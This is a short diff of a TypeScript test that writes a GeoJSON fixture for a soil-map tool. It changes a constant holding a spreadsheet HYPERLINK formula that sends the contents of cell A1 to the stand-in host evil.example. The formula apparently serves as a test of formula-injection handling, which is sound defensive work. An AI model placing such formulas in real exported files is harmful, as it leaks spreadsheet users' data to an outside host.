@@ -48,7 +48,8 @@ function write(name: string, content: string): string {
   writeFileSync(path, content);
   return path;
 }
-const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Hn21")';
+// No '/' in it: a soil code with a slash is read as a Bodemkaart complex (its first unit).
+const FORMULA = '=HYPERLINK("evil.example?d="&A1,"Hn21")';
 write(
   'formula.geojson',
   JSON.stringify({
